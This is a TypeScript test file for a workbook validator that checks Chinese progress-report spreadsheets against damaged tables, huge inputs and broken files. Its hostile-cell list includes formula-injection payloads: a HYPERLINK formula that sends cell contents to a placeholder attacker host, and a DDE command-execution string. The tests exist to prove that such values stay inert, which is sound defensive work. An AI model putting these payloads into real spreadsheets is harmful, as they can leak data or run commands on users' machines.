/**
 * Workbook-level bad input: damaged tables and meta, hostile cell texts, huge strings, many rows, broken files.
 * Each gives a clear Chinese message or notice, never a crash, and the annotated file holds no formula made of
 * user text.
 */
import { validateCommand } from '../../src/cli/commands/validate';
import { checkSnapshot as checkWorkbook, validatedCopy } from '../support/ledgerCheck';
import { COLUMNS, TABLES } from '../../src/workbook/format';
import type { CellValue } from '../../src/domain/entryCells';
import type { WorkbookSnapshot } from '../../src/workbook/snapshot';
import { planIssueSheet } from '../../src/workbook/issueSheet';
import { readWorkbookXlsx } from '../support/exceljs/readWorkbookXlsx';
import { writePlanToXlsx } from '../../src/xlsx/writePlanToXlsx';
import { bookPlan, fixturePeriod, fixtureRows } from './fixtureBook';
import { memoryIo } from '../support/memoryIo';
import { formulaTexts } from './xlsxParts';

let base: WorkbookSnapshot;
beforeAll(async () => {
  base = await readWorkbookXlsx(await writePlanToXlsx(bookPlan(fixtureRows.map((r) => r.values))));
});

type Mutate = (s: WorkbookSnapshot) => WorkbookSnapshot;

function entries(s: WorkbookSnapshot) {
  const t = s.tables.find((x) => x.name === TABLES.entries);
  if (!t) throw new Error('no entries');
  return t;
}

function withEntries(
  s: WorkbookSnapshot,
  f: (t: ReturnType<typeof entries>) => Partial<ReturnType<typeof entries>>,
): WorkbookSnapshot {
  return { ...s, tables: s.tables.map((t) => (t.name === TABLES.entries ? { ...t, ...f(t) } : t)) };
}

const col = (h: string) => COLUMNS.entries.indexOf(h as (typeof COLUMNS.entries)[number]);

/** Damage that makes the workbook unusable: the message it must give. */
const UNUSABLE: [string, Mutate, RegExp][] = [
  ['no _wp_meta sheet', (s) => ({ ...s, meta: null }), /没有保存的工作要点方案（“_wp_meta”工作表）/],
  [
    '_wp_meta without its marker',
    (s) => ({ ...s, meta: [['x', 'y']] }),
    /没有保存的工作要点方案（“_wp_meta”工作表）/,
  ],
  [
    'a schema part cut from _wp_meta',
    (s) => ({ ...s, meta: (s.meta ?? []).filter((r) => r[0] !== 'schema') }),
    /不完整/,
  ],
  [
    'schema JSON edited into nonsense',
    (s) => ({ ...s, meta: (s.meta ?? []).map((r) => (r[0] === 'schema' ? ['schema', '{"items": 3'] : r)) }),
    /方案无法读取/,
  ],
  [
    'a missing required column',
    (s) =>
      withEntries(s, (t) => ({
        headers: t.headers.filter((h) => h !== '累计完成值').concat('x'),
        rows: t.rows,
      })),
    /缺少必需的列：“累计完成值”/,
  ],
  [
    'a renamed header',
    (s) => withEntries(s, (t) => ({ headers: t.headers.map((h) => (h === '填报单位' ? '单位名称' : h)) })),
    /“单位名称”，似乎被改名，请改回“填报单位”/,
  ],
  [
    'every header renamed',
    (s) => withEntries(s, (t) => ({ headers: t.headers.map((_, i) => `列${i + 1}`) })),
    /缺少必需的列/,
  ],
  [
    'no entries table and no header row',
    (s) => ({ ...s, tables: s.tables.filter((t) => t.name !== TABLES.entries) }),
    /找不到进度填报/,
  ],
  [
    'no 进度填报 sheet at all',
    (s) => ({
      ...s,
      sheets: s.sheets.filter((x) => x.name !== '进度填报'),
      tables: s.tables.filter((t) => t.name !== TABLES.entries),
    }),
    /没有“进度填报”工作表/,
  ],
];

/** Damage that validation goes on through, with a notice. */
const NOTICED: [string, Mutate, RegExp][] = [
  [
    'a fingerprint that does not match the schema',
    (s) => ({
      ...s,
      meta: (s.meta ?? []).map((r) => (r[0] === 'fingerprint' ? ['fingerprint', 'deadbeef'] : r)),
    }),
    /指纹不符/,
  ],
  [
    'a missing optional column',
    (s) => withEntries(s, (t) => ({ headers: t.headers.map((h) => (h === '填报人' ? '备注' : h)) })),
    /缺少列：“填报人”/,
  ],
  [
    'no 校验状态 column',
    (s) => withEntries(s, (t) => ({ headers: t.headers.map((h) => (h === '校验状态' ? '说明' : h)) })),
    /没有“校验状态”列时不写行状态/,
  ],
  [
    'the table converted to a plain range',
    (s) => ({
      ...s,
      tables: s.tables.filter((t) => t.name !== TABLES.entries),
      plainEntries: { ...entries(s), name: '' },
    }),
    /转换为普通区域/,
  ],
  [
    'merged cells in the entries',
    (s) => ({ ...s, merges: [{ sheet: '进度填报', range: 'B5:B7' }] }),
    /合并单元格 B5:B7/,
  ],
  [
    'formulas in value cells',
    (s) => withEntries(s, () => ({ formulaCells: [{ row: 12, column: col('累计完成值') }] })),
    /单元格 E12 是公式/,
  ],
  [
    'rows typed under the table',
    (s) =>
      withEntries(s, (t) => ({
        rowsBelow: [
          {
            row: (t.rows[t.rows.length - 1]?.row ?? 1) + 1,
            values: ['2021年上半年', '省财政厅', 4, null, null, null, '表格外的一行', null, null, null],
          },
        ],
      })),
    /第 33 行填写在 WP_Entries 表格下方/,
  ],
  ['blank rows between entries', (s) => s, /第 27–28 行是空行/],
];

describe('damaged workbooks', () => {
  it.each(UNUSABLE)('refuses %s with a clear message', (_name, mutate, message) => {
    const check = checkWorkbook(mutate(base), { period: fixturePeriod });
    expect(check.ok).toBe(false);
    if (!check.ok) expect(check.problem).toMatch(message);
  });

  it.each(NOTICED)('validates despite %s and says so', (_name, mutate, message) => {
    const check = checkWorkbook(mutate(base), { period: fixturePeriod });
    expect(check.ok).toBe(true);
    if (check.ok) expect(check.notices.join('\n')).toMatch(message);
  });

  it('validates the rows typed under the table like any other row', () => {
    const [, mutate] = NOTICED.find(([n]) => n === 'rows typed under the table') ?? [];
    const check = mutate ? checkWorkbook(mutate(base), { period: fixturePeriod }) : null;
    expect(check?.ok && check.result.issues.filter((i) => i.row === 33).map((i) => i.rule)).toContain(
      'not-responsible',
    );
  });

  it('refuses an unknown period', () => {
    const check = checkWorkbook(base, { period: '2099年全年' });
    expect(check.ok).toBe(false);
    if (!check.ok) expect(check.problem).toMatch(/不是本方案的报告期/);
  });
});

/** Hostile or odd texts a clerk (or a macro) may leave in a cell. */
const HOSTILE: CellValue[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '=1+1',
  '+1+2',
  '-A1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "'=quoted",
  '=\u0000NUL',
  '"),HYPERLINK("x',
  '#N/A',
  '_x0041_',
  'x'.repeat(1_000_000),
  '\u202Eevil',
  '省工信厅\r\n=1+1',
  { error: '#DIV/0!' },
  { error: '#REF!' },
  true,
  -1e308,
  Number.MAX_SAFE_INTEGER,
];

describe('hostile cell texts', () => {
  it.each(HOSTILE.map((v, i) => [i, typeof v === 'string' ? v.slice(0, 40) : JSON.stringify(v), v] as const))(
    'case %i (%s) validates, is kept as a value, and never becomes a formula',
    async (_i, _label, value) => {
      const rows = fixtureRows.slice(0, 6).map((r) => [...r.values]);
      for (const j of [col('填报单位'), col('累计完成值'), col('工作进展'), col('计量单位')])
        rows[1]![j] = value;
      const input = await writePlanToXlsx(bookPlan(rows));
      const snapshot = await readWorkbookXlsx(input);
      const check = checkWorkbook(snapshot, { period: fixturePeriod });
      expect(check.ok).toBe(true);
      if (!check.ok) return;
      const bytes = await validatedCopy(input, fixturePeriod);
      const formulas = await formulaTexts(bytes);
      const text =
        typeof value === 'string'
          ? value
          : value !== null && typeof value === 'object'
            ? value.error
            : String(value);
      // Our own formulas: calculated columns, conditional formats and the links; none carries the cell text.
      for (const f of formulas) if (text.length > 3) expect(f).not.toContain(text.slice(1, 40));
      for (const f of formulas.filter((x) => x.startsWith('HYPERLINK')))
        expect(f).toMatch(/^HYPERLINK\("#'进度填报'![A-Z]+\d+","[A-Z]+\d+"\)$/);
      const after = (await readWorkbookXlsx(bytes)).tables.find((t) => t.name === TABLES.entries);
      const before = snapshot.tables.find((t) => t.name === TABLES.entries);
      const strip = (r: { values: CellValue[] }) => r.values.filter((_, j) => j !== col('校验状态'));
      expect(after?.rows.map(strip)).toEqual(before?.rows.map(strip));
    },
  );
});

describe('size', () => {
  it('validates and plans the output for 100,000 rows without a crash', () => {
    const template = fixtureRows.slice(0, 26).map((r) => r.values);
    const rows = Array.from({ length: 100_000 }, (_, i) => ({
      row: i + 2,
      values: [...(template[i % template.length] ?? [])],
    }));
    const snapshot = withEntries(base, () => ({ rows }));
    const check = checkWorkbook(snapshot, { period: fixturePeriod });
    expect(check.ok).toBe(true);
    if (!check.ok) return;
    const output = planIssueSheet(check.ledger.layout, check.ledger.rows, check.result, check.ledger.notices);
    expect(output.statuses).toHaveLength(100_000);
    expect(output.links.filter(Boolean).length).toBe(
      check.result.issues.filter((i) => i.row !== null).length,
    );
  });
});

describe('broken files through the CLI', () => {
  const files: [string, Uint8Array][] = [
    ['an empty file', new Uint8Array()],
    ['a text file', new TextEncoder().encode('报告期,填报单位\n2021年上半年,省财政厅\n')],
    [
      'a zip that is not a workbook',
      new Uint8Array([0x50, 0x4b, 0x05, 0x06, ...new Array<number>(18).fill(0)]),
    ],
    ['random bytes', Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)],
  ];
  it.each(files)('exits 2 with a Chinese message for %s', async (_name, bytes) => {
    const io = memoryIo({ 'bad.xlsx': bytes });
    const code = await validateCommand(['bad.xlsx', '--out', 'o.xlsx'], io);
    expect(code).toBe(2);
    expect(io.stderr()).toMatch(/不是可读取的 \.xlsx 工作簿|不是 Excel 工作簿/);
    expect(io.files.has('o.xlsx')).toBe(false);
  });
});
